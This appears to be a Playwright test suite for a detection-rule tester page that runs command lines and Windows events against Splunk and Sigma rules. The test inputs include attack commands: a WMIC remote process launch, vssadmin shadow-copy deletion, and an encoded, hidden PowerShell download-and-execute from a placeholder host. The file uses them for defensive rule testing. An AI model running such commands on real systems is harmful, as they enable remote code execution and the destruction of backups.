import { expect, expectAccessible, test } from "./fixtures"

const WMIC = 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'
const EVTX = String.raw`{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws1"},"EventData":{"Image":"C:\\Windows\\System32\\wbem\\WMIC.exe","CommandLine":"wmic /node:10.0.0.5 process call create calc.exe","OriginalFileName":"wmic.exe"}}}`

test.describe("tester", () => {
  test("a WMIC remote command line fires WMIC Remote Process Launch first, with held predicates marked", async ({
    page,
    problems,
  }) => {
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill(WMIC)
    const first = page
      .getByTestId("fired-rule")
      .filter({ has: page.getByRole("link", { name: "WMIC Remote Process Launch", exact: true }) })
    await expect(first).toHaveCount(1)
    await expect(first.getByRole("link").first()).toHaveAttribute("href", "/rules/splunk/wmic-remote-process-launch/")
    // Folded to the conditions that held; the full trace, stages numbered from 1, on demand.
    await expect(first.getByText("Stage 1")).toBeHidden()
    await first.getByText("Full trace").click()
    await expect(first.getByText("Stage 1", { exact: false }).first()).toBeVisible()
    const held = first.locator('li[data-held="true"]')
    await expect(held.first()).toContainText("✓ held")
    await expect(first.locator("li[data-held]", { hasText: "process_name=wmic.exe" }).first()).toContainText("wmic.exe")
    await expect(page).toHaveURL(/#cmd=wmic/)
    await expectAccessible(page)
    expect(problems).toEqual([])
  })

  test("the WMIC command line fires both the Splunk and the Sigma rule, each trace naming macros or selections", async ({
    page,
    problems,
  }) => {
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill(WMIC)
    const fired = page.getByTestId("fired-rule")
    const splunk = fired.filter({ has: page.getByRole("link", { name: "WMIC Remote Process Launch", exact: true }) })
    const sigma = fired.filter({
      has: page.getByRole("link", { name: "WMIC Starts a Process on Another Host", exact: true }),
    })
    await expect(splunk).toContainText("Splunk · TTP · read as CIM Endpoint.Processes")
    await expect(sigma).toContainText("Sigma")
    await expect(sigma).toContainText("read as Sigma process_creation")
    await expect(sigma.getByRole("link").first()).toHaveAttribute(
      "href",
      "/rules/sigma/proc-creation-win-wmic-remote-process-create/",
    )
    await expect(sigma.locator('li[data-held="true"]', { hasText: "in selection_remote" }).first()).toBeVisible()
    await expect(splunk.locator('li[data-held="true"]', { hasText: "from macro process_wmic" }).first()).toBeVisible()
    await expect(page.getByTestId("sigma-gate")).toHaveText("Sigma rules read it as windows/process_creation.")
    await expectAccessible(page)
    expect(problems).toEqual([])
  })

  test("the permalink restores the input and the results", async ({ page, context, problems }) => {
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill(WMIC)
    await page.getByLabel("User (optional)").fill("bob")
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    await expect(page).toHaveURL(/user=bob/)
    const url = page.url()
    const other = await context.newPage()
    await other.goto(url)
    await expect(other.getByLabel("Command line", { exact: true })).toHaveValue(WMIC)
    await expect(other.getByLabel("User (optional)")).toHaveValue("bob")
    await expect(
      other.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first(),
    ).toBeVisible()
    expect(problems).toEqual([])
  })

  test("a renamed binary fires by its original file name; the built events can be edited and re-run", async ({
    page,
    problems,
  }) => {
    await page.goto("/tester/")
    await page
      .getByLabel("Command line", { exact: true })
      .fill("C:\\Users\\Public\\svc.exe /node:10.0.0.5 process call create calc.exe")
    await expect(page.getByRole("status")).toHaveText(/Evaluated against \d+ rules/)
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" })).toHaveCount(0)
    await page.getByLabel("Original file name (optional)").fill("wmic.exe")
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    await expect(page).toHaveURL(/ofn=wmic\.exe/)
    await page.getByText(/^Built events, one per shape \(cim, sysmon, security4688, sigma, ecs\)$/).click()
    await expect(page.getByTestId("built-events")).toContainText('"OriginalFileName": "wmic.exe"')
    await page.getByRole("button", { name: "Edit these events" }).click()
    await expect(page.getByLabel("an event pasted as text")).toBeChecked()
    const pasted = page.getByLabel("Pasted event")
    await expect(pasted).toHaveValue(/"process_name": "svc.exe"/)
    await pasted.fill((await pasted.inputValue()).replace('"process_name": "svc.exe"', '"process_name": "wmic.exe"'))
    await expect(page.getByRole("heading", { name: "Event 1" })).toBeVisible()
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    expect(problems).toEqual([])
  })

  test("a pasted Windows event JSON fires the same rule", async ({ page, problems }) => {
    await page.goto("/tester/")
    await page.getByLabel("an event pasted as text").check()
    await page.getByLabel("Pasted event").fill(EVTX)
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    await expectAccessible(page)
    expect(problems).toEqual([])
  })

  test("bad pasted input shows what could not be read", async ({ page, problems }) => {
    await page.goto("/tester/")
    await page.getByLabel("an event pasted as text").check()
    await page.getByLabel("Pasted event").fill('{"Event": {"System": ')
    const alert = page.getByRole("alert").filter({ hasText: "Could not read the pasted event" })
    await expect(alert).toBeVisible()
    await page.getByLabel("Pasted event").fill("hello")
    await expect(alert).toContainText("expected a JSON object")
    await expectAccessible(page)
    expect(problems).toEqual([])
  })

  test("a 1 MB command line does not freeze the page", async ({ page, problems }) => {
    await page.goto("/tester/")
    // Judged by the page's own main-thread tasks, not by wall time, which counts the machine's other
    // processes: alone the longest task here is about 200 ms; a page that evaluated or drew the
    // command line on the main thread would hold it for seconds.
    await page.evaluate(() => {
      const w = window as unknown as { longTasks: number[] }
      w.longTasks = []
      new PerformanceObserver((list) => {
        for (const e of list.getEntries()) w.longTasks.push(e.duration)
      }).observe({ type: "longtask" })
    })
    await page.getByLabel("Command line", { exact: true }).fill(`cmd.exe /c echo ${"A".repeat(1_000_000)}`)
    const user = page.getByLabel("User (optional)")
    await user.click()
    await expect(user).toBeFocused()
    const tasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks)
    expect(Math.max(0, ...tasks)).toBeLessThan(1000)
    await expect(page.getByRole("status")).toContainText(/Evaluated against \d+ rules/, { timeout: 20_000 })
    await expect(page.getByText("too long for a permalink")).toBeVisible()
    expect(problems).toEqual([])
  })

  test("at 1440×900 the verdict, the risk per entity and the WMI rule are above the fold", async ({
    page,
    problems,
  }) => {
    await page.setViewportSize({ width: 1440, height: 900 })
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill(WMIC)
    await page.getByLabel("User (optional)").fill("CORP\\bob")
    await page.getByLabel("Host (optional)").fill("ws-042")
    const verdict = page.getByTestId("verdict")
    await expect(verdict).toContainText(/\d+ rules? fires? · highest severity/)
    const risk = page.getByTestId("risk-per-entity")
    await expect(risk.getByRole("cell", { name: "dest=ws-042" })).toBeVisible()
    const wmi = page
      .getByTestId("fired-rule")
      .filter({ has: page.getByRole("link", { name: "WMIC Remote Process Launch", exact: true }) })
    for (const el of [verdict, risk, verdict.getByRole("link", { name: "WMIC Remote Process Launch", exact: true })]) {
      const box = await el.boundingBox()
      expect(box && box.y + Math.min(box.height, 40)).toBeLessThan(900)
    }
    await expect(wmi).toContainText(/Risk \+\d+ to dest=ws-042: /)
    await expectAccessible(page)
    expect(problems).toEqual([])
  })

  test("without user or host, risk is shown per rule, never under an invented entity", async ({ page, problems }) => {
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill(WMIC)
    await expect(page.getByTestId("risk-per-entity")).toContainText(
      "The input names no user or host, so risk is shown per rule below.",
    )
    await expect(page.getByText("(unknown)")).toHaveCount(0)
    await expect(
      page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first(),
    ).toContainText("(not named in the input)")
    expect(problems).toEqual([])
  })

  test("deprecated rules are not counted unless asked, and the choice is in the URL", async ({ page, problems }) => {
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill("vssadmin.exe delete shadows /all /quiet")
    const verdict = page.getByTestId("verdict")
    await expect(verdict).toContainText(/Also firing, not counted: 1 deprecated/)
    await expect(
      page.getByTestId("fired-rule").filter({ hasText: "Vssadmin Delete Shadows Legacy Pattern" }),
    ).toHaveCount(0)
    await page.getByLabel("deprecated", { exact: true }).check()
    await expect(
      page.getByTestId("fired-rule").filter({ hasText: "Vssadmin Delete Shadows Legacy Pattern" }),
    ).toHaveCount(1)
    await expect(page).toHaveURL(/status=production%2Cexperimental%2Cdeprecated/)
    await expect(verdict).not.toContainText("not counted")
    expect(problems).toEqual([])
  })

  test("near misses: at most 10, closest first with how many conditions held, and all on request", async ({
    page,
    problems,
  }) => {
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill("wmic process call create calc.exe")
    const near = page.getByTestId("near-miss")
    await expect(near.first()).toBeVisible()
    const n = await near.count()
    expect(n).toBeLessThanOrEqual(10)
    const shares = await near.evaluateAll((els) =>
      els
        .map((e) => /(\d+) of (\d+) conditions held/.exec(e.textContent ?? ""))
        .map((m) => (m ? Number(m[1]) / Number(m[2]) : -1)),
    )
    expect(shares.every((x) => x >= 0)).toBe(true)
    expect([...shares].sort((a, b) => b - a)).toEqual(shares)
    const all = page.getByRole("button", { name: /Show all \d+ near misses/ })
    if ((await all.count()) > 0) {
      const total = Number(/\d+/.exec((await all.textContent()) ?? "")?.[0])
      await all.click()
      await expect(near).toHaveCount(total)
    }
    expect(problems).toEqual([])
  })

  test("powershell -enc: the script is decoded, shown, and evaluated as derived events", async ({ page, problems }) => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"
    const b64 = await page.evaluate((s) => {
      let bin = ""
      for (const c of s) {
        const u = c.charCodeAt(0)
        bin += String.fromCharCode(u & 0xff, u >> 8)
      }
      return btoa(bin)
    }, script)
    await page.goto("/tester/")
    await page.getByLabel("Command line", { exact: true }).fill(`powershell.exe -nop -w hidden -enc ${b64}`)
    await expect(page.getByTestId("decoded-script")).toContainText(script)
    await expect(page.getByRole("heading", { name: "The command line as typed" })).toBeVisible()
    await expect(
      page.getByRole("heading", { name: /^Derived: the process with its encoded script decoded/ }),
    ).toBeVisible()
    await expect(
      page.getByRole("heading", { name: /^Derived: the script block PowerShell logs \(4104\)/ }),
    ).toBeVisible()
    await expectAccessible(page)
    expect(problems).toEqual([])
  })

  test("a Windows event XML with an impossible character reference is a positioned parse error", async ({
    page,
    problems,
  }) => {
    await page.goto("/tester/")
    await page.getByLabel("an event pasted as text").check()
    await page
      .getByLabel("Pasted event")
      .fill(
        '<Event><System><EventID>1</EventID></System>\n<EventData><Data Name="CommandLine">a&#99999999;</Data></EventData></Event>',
      )
    await expect(page.getByRole("alert").filter({ hasText: "Could not read the pasted event" })).toContainText(
      "character reference &#99999999; is not a character XML allows (line 2, column 38)",
    )
    expect(problems).toEqual([])
  })

  test("a rule page opens the tester with an example event that fires the rule", async ({ page, problems }) => {
    await page.goto("/rules/splunk/wmic-remote-process-launch/")
    await page.getByRole("link", { name: "Open in tester with an example event that fires this rule" }).click()
    await expect(page).toHaveURL(/\/tester\/#mode=event&event=/)
    await expect(page.getByLabel("an event pasted as text")).toBeChecked()
    await expect(
      page
        .getByTestId("fired-rule")
        .filter({ has: page.getByRole("link", { name: "WMIC Remote Process Launch", exact: true }) }),
    ).toHaveCount(1)
    expect(problems).toEqual([])
  })

  test("the worker starts on idle, fetches only the rules a command line needs, and keeps them across visits", async ({
    page,
    problems,
  }) => {
    const chunks: string[] = []
    page.on("request", (r) => {
      if (/\/tester\/rules\/(?!manifest)/.test(r.url())) chunks.push(new URL(r.url()).pathname)
    })
    await page.goto("/tester/")
    // Nothing typed yet: the idle worker loads what a command line needs, and nothing more.
    await expect.poll(() => chunks.some((u) => u.includes("/core."))).toBe(true)
    await page.getByLabel("Command line", { exact: true }).fill(WMIC)
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    expect(chunks.some((u) => u.includes("/pasted."))).toBe(false)
    chunks.length = 0
    await page.reload()
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    expect(chunks).toEqual([])
    // A pasted event reads the rules no built event can fire: the pasted-event chunk comes now.
    await page.getByLabel("an event pasted as text").check()
    await page.getByLabel("Pasted event").fill(EVTX)
    await expect(page.getByTestId("fired-rule").filter({ hasText: "WMIC Remote Process Launch" }).first()).toBeVisible()
    expect(chunks.some((u) => u.includes("/pasted."))).toBe(true)
    expect(problems).toEqual([])
  })
})
